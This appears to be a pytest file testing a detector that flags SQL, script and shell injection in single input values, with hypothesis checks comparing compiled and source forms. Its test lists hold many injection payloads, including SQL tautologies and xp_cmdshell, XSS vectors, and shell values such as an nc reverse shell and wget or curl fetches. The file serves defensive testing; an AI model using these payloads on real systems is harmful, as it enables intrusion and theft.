"""SQL, script and shell in single values: what is one, and what only looks like it."""

from __future__ import annotations

import importlib.util
import sys
from functools import cache
from pathlib import Path
from types import ModuleType

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rules import windows
from rules.readers import looks_like_sql
from rules.script import runs
from rules.shell import commands
from rules.sql import SqlReader


@cache
def interpreted(name: str) -> ModuleType:
    """The module from its source, whether or not it is built."""
    spec = importlib.util.spec_from_file_location(f"{name}_interpreted", Path(windows.__file__).parent / f"{name.split('.')[1]}.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize(
    "value",
    [
        "1' or '1'='1", "x' OR 1=1 -- ", "7 and 3=4", "1) or (2=2", '" or ""="', "admin'--", "') or true#", "1 union select null,null",
        "-1' UNION/**/ALL/**/SELECT 1,2,3#", "1;drop table users", "1; waitfor delay '0:0:9'--", "'; exec xp_cmdshell('dir')--",
        "1 and sleep(5)", "(select 1 from dual)", "1' order by 12-- ", "a' and ascii(substr(user(),1,1))>64 and 'x'='x",
        "1/*!50000union*/select 1", "x' and 1=(select count(*) from t) and 'a' like 'a", "select * from accounts where id=1",
        "insert into t values (1,2)", "update t set a=1 where b=2", "1' || utl_http.request('http://a') || '", "extractvalue(1,concat(0x7e,version()))",
        "1 procedure analyse(1)", "@@version", "1' having 1=1--", "begin dbms_lock.sleep(5); end;", "x'; shutdown--",
    ],
)  # fmt: skip
def test_sql(value: str) -> None:
    assert looks_like_sql(value.encode())


@pytest.mark.parametrize(
    "value",
    [
        "", "O'Brien", "rock 'n' roll", "select a size", "union of workers", "salt and pepper", "1 or 2", "bob's or alice's", "Mon-Fri 9-17",
        "drop the table on the left", "it's 5 o'clock -- maybe", "please update your order and delete the old one", "a=b", "x > 3 and y < 4",
        "status eq 'open' and total gt 100", "color:#fff", "C# developer", "group by the river", "order by phone", "5'11\" tall",
        "The Best of (1999)", "where is it?", "and/or", "like 'em", "d'Artagnan & sons; (est. 1900)", "insert coin into slot", "2024-01-01",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc--def", "https://a.example/?a=1&b=2#top", "call me (maybe)", "'quoted text'", "a -- b",
    ],
)  # fmt: skip
def test_not_sql(value: str) -> None:
    assert not looks_like_sql(value.encode())


@pytest.mark.parametrize(
    "value",
    [
        "<script>x</script>", "<SCRIPT SRC=//a>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '" onmouseover="alert(1)',
        "javascript:alert(1)", "java\tscript:alert(1)", "<a href='javascript:x()'>", "<iframe src=//a>", "';alert(1)//", "<body onload=x()>",
        "<div style='width:expression(alert(1))'>", "<!--#exec cmd='x'-->", "+ADw-script+AD4-", "</script><b>", "String.fromCharCode(88)",
        "<x onclick=y>", "document.cookie=1;(x)", "data:text/html;base64,PHNjcmlwdD4=", "<object data=x>",
    ],
)  # fmt: skip
def test_script(value: str) -> None:
    assert runs(value.encode())


@pytest.mark.parametrize(
    "value",
    ["<b>bold</b>", "<p>a</p><br/>", "a < b > c", "I <3 you", "online=1&once=2", "javascript is fun", "1 <2", "<a href='https://a.example'>a</a>",
     "<ann@a.example>", "x=(1+2)", "javascript:;", "f(x)=x", "map <-> territory"],
)  # fmt: skip
def test_not_script(value: str) -> None:
    assert not runs(value.encode())


@pytest.mark.parametrize(
    "value",
    [";id", "|cat /etc/x", "`whoami`", "$(uname -a)", "a && ping -c 1 a", "x;ls", "/bin/sh -c x", "cat /etc/x", "& dir", "|| wget http://a", "a\nid",
     ";c'a't /etc/x", ";cat${IFS}/etc/x", "cmd.exe /c dir", "1 | nc -e /bin/sh 1.2.3.4 5", "ping -n 3 127.0.0.1", "{cat,/etc/x}", ";sleep 5;", "; curl a.example"],
)  # fmt: skip
def test_shell(value: str) -> None:
    assert commands(value.encode())


@pytest.mark.parametrize(
    "value",
    ["Tom & Jerry", "R&D", "a; b; c", "find | more options", "rock & roll; find the date", "1 | 2", "$5.00", "`code`", "cats & dogs", "ls", "time; and again",
     "buy milk; call mum & dad", "a|b|c", "&nbsp;", "x & who else", "{name}", "price ($)", "path/to/file"],
)  # fmt: skip
def test_not_shell(value: str) -> None:
    assert not commands(value.encode())


SQL_LIKE = st.binary(max_size=120) | st.lists(
    st.sampled_from(["1", "'", '"', "`", "(", ")", "or", "and", "union", "select", "null", "from", "where", "=", "like", "--", "#", "/**/", "/*!", "sleep(5)", ",", ";", "'a'", "drop", "table", "x", "@@version", "case", "when", "0x1f", "||", "-"]), max_size=14
).map(lambda words: " ".join(words).encode())


@settings(max_examples=150, deadline=None)
@given(SQL_LIKE)
def test_the_sql_reader_says_the_same_in_both_forms(value: bytes) -> None:
    built, plain = SqlReader(), interpreted("rules.sql").SqlReader()
    data = bytearray(value)
    for quoted in (False, True):
        assert built.shape(data, 0, len(data), quoted) == plain.shape(data, 0, len(data), quoted)
    assert bool(built.injected(data, 0, len(data))) == bool(plain.injected(data, 0, len(data)))


@settings(max_examples=40, deadline=None)
@given(
    st.sampled_from(["event_count", "value_count", "steps"]),
    st.lists(st.tuples(st.integers(0, 3), st.integers(0, 40), st.integers(0, 20_000_000_000)), max_size=60),
)
def test_counting_says_the_same_in_both_forms(kind: str, calls: list[tuple[int, int, int]]) -> None:
    keys, values = np.array([call[0] for call in calls], np.uint64), np.array([call[1] for call in calls], np.uint64)
    ts = np.cumsum(np.array([call[2] for call in calls], np.int64)) + 1_700_000_000_000_000_000
    told = [module.Windows(kind, 60_000_000_000, 5).feed(keys, values, ts) for module in (windows, interpreted("rules.windows"))]
    assert told[0] == told[1]


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300) | st.text(alphabet="'\"`()=;-#/*<>|&$ selctunioadrx01,@!{}", max_size=200).map(str.encode))
def test_readers_take_any_octets(value: bytes) -> None:
    looks_like_sql(value)
    runs(value)
    commands(value)
